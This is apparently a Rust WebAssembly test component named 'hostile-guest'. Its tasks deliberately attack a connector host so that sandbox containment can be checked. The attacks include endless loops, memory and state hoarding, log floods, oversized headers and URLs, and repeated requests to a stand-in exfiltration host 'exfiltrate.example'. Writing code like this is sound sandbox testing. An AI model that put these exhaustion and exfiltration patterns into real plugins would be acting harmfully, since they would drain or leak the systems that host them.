//! A component that attacks its host, one task per way: it spins, hoards memory, calls hosts
//! outside the allow-list, emits without end, panics, and passes absurd arguments to every
//! import. The containment tests run each task and expect a typed stop, never a host failure.
//!
//! `configure` takes `{"url": "<an allowed origin>"}`, the loopback server the tests run.

use std::cell::RefCell;

use serde_json::{Value, json};

wit_bindgen::generate!({
    world: "connector",
    path: "../../../wit",
});

use saas::connector::{clock, http, log, sink, state};

thread_local! {
    static URL: RefCell<String> = const { RefCell::new(String::new()) };
}

const TASKS: [&str; 15] = [
    "ok",
    "spin",
    "allocate",
    "forbidden-host",
    "emit-forever",
    "huge-batch",
    "panic",
    "giant-sleep",
    "huge-log",
    "log-flood",
    "huge-headers",
    "huge-url",
    "state-hoard",
    "pipeline",
    "hoard-batches",
];

fn request(url: String) -> http::Request {
    http::Request {
        method: http::Method::Get,
        url,
        headers: vec![],
        body: None,
        timeout_ms: None,
    }
}

fn get(
    url: String,
    headers: Vec<(String, String)>,
) -> Result<http::Response, http::TransportError> {
    http::send(&http::Request {
        method: http::Method::Get,
        url,
        headers,
        body: None,
        timeout_ms: Some(u32::MAX),
    })
}

/// A summary whose details say how the host answered, for the tests to read.
fn summary(task: &str, details: Value) -> TaskSummary {
    TaskSummary {
        task: task.into(),
        records: vec![],
        warnings: vec![],
        details: details.to_string(),
    }
}

fn outcome(result: &Result<http::Response, http::TransportError>) -> String {
    match result {
        Ok(r) => format!("status {}", r.status),
        Err(e) => format!("{e:?}"),
    }
}

fn attack(task: &str) -> Result<TaskSummary, ConnectorError> {
    let url = URL.with_borrow(Clone::clone);
    match task {
        // The one well-behaved task: proves the harness still serves after an attack.
        "ok" => {
            sink::emit("item", &["{\"n\":1}".to_string()]).map_err(ConnectorError::Cancelled)?;
            Ok(TaskSummary {
                records: vec![EntityCount {
                    entity: "item".into(),
                    count: 1,
                }],
                ..summary(task, json!({}))
            })
        }
        "spin" => {
            let mut n = 0u64;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "allocate" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "forbidden-host" => loop {
            // Ignore every denial and try again, as an exfiltrating guest would.
            let _ = get("https://exfiltrate.example/collect".into(), vec![]);
        },
        "emit-forever" => {
            let batch: Vec<String> = (0..1000).map(|i| format!("{{\"n\":{i}}}")).collect();
            loop {
                let _ = sink::emit("item", &batch);
            }
        }
        "huge-batch" => {
            // One call with 200,000 records.
            let batch: Vec<String> = (0..200_000).map(|i| format!("{{\"n\":{i}}}")).collect();
            let refused = sink::emit("item", &batch).err();
            Ok(summary(task, json!({"refused": refused})))
        }
        "panic" => panic!("hostile guest panics on purpose"),
        "giant-sleep" => {
            clock::sleep(u64::MAX);
            Ok(summary(task, json!({"woke": true})))
        }
        "huge-log" => {
            log::log(log::Level::Error, &"x".repeat(4 << 20));
            Ok(summary(task, json!({"logged": true})))
        }
        "log-flood" => loop {
            log::log(log::Level::Info, "flood");
        },
        "huge-headers" => {
            let headers: Vec<(String, String)> = (0..100_000)
                .map(|i| (format!("x-header-{i}"), "v".repeat(64)))
                .collect();
            let result = get(format!("{url}/v1/account"), headers);
            Ok(summary(task, json!({"outcome": outcome(&result)})))
        }
        "huge-url" => {
            let result = get(
                format!("{url}/v1/account?q={}", "a".repeat(4 << 20)),
                vec![],
            );
            Ok(summary(task, json!({"outcome": outcome(&result)})))
        }
        // Well-behaved use of `start-all`: two batches in flight, collected in turn.
        "pipeline" => {
            let first = http::start_all(&[
                request(format!("{url}/v1/account")),
                request("https://exfiltrate.example/collect".into()),
            ]);
            let second = http::start_all(&[request(format!("{url}/v1/account"))]);
            let second_results: Vec<String> = second.wait().iter().map(outcome).collect();
            let first_results: Vec<String> = first.wait().iter().map(outcome).collect();
            let again = first.wait().len();
            Ok(summary(
                task,
                json!({"first": first_results, "second": second_results, "again": again}),
            ))
        }
        // Starts batches and never collects them.
        "hoard-batches" => {
            let mut hoard = Vec::new();
            loop {
                hoard.push(http::start_all(&[request(format!("{url}/v1/account"))]));
            }
        }
        "state-hoard" => {
            // Each value is under the per-value cap; together they are not.
            let value = "s".repeat(1 << 20);
            let mut refused = None;
            for i in 0..100_000 {
                if let Err(e) = state::set(&format!("key-{i}"), &value) {
                    refused = Some(e);
                    break;
                }
            }
            let huge = state::set("huge", &"h".repeat(2 << 20)).err();
            Ok(summary(task, json!({"refused": refused, "huge": huge})))
        }
        other => Err(ConnectorError::InvalidRequest(FieldError {
            field: "task".into(),
            message: format!("unknown task '{other}'"),
        })),
    }
}

struct Component;

impl Guest for Component {
    fn describe() -> Manifest {
        Manifest {
            name: "hostile-guest".into(),
            version: "0.1.0".into(),
            description: "Misbehaves on purpose.".into(),
            config_schema: json!({"type": "object"}).to_string(),
            tasks: TASKS
                .iter()
                .map(|name| TaskInfo {
                    name: name.to_string(),
                    description: String::new(),
                    entities: vec!["item".into()],
                    permissions: vec![],
                    endpoints: vec![],
                    options_schema: json!({"type": "object"}).to_string(),
                })
                .collect(),
            entities: vec![EntityInfo {
                name: "item".into(),
                description: String::new(),
                schema: json!({"type": "object"}).to_string(),
            }],
            secret_fields: vec![],
        }
    }

    fn configure(config: String) -> Result<(), ConnectorError> {
        let value: Value = serde_json::from_str(&config).unwrap_or_default();
        let url = value["url"].as_str().unwrap_or_default().to_string();
        URL.set(url);
        Ok(())
    }

    fn check() -> CheckReport {
        CheckReport {
            ok: true,
            authentication: None,
            tasks: vec![],
            warnings: vec![],
        }
    }

    fn run_task(task: String, _options: TaskOptions) -> Result<TaskSummary, ConnectorError> {
        attack(&task)
    }

    fn reclaim(_request: ReclaimRequest) -> Result<ReclaimReport, ConnectorError> {
        Err(ConnectorError::Unsupported("nothing to reclaim".into()))
    }
}

export!(Component);
